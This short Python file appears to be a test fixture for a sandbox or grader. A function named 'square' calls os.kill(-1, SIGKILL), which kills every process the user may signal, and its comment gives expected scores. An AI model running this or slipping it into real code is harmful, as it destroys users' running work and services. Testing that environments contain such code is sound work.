# Kills every process that it may signal.
# expect: square=0 total=1
import os, signal
def square(x):
    os.kill(-1, signal.SIGKILL)
    return 0
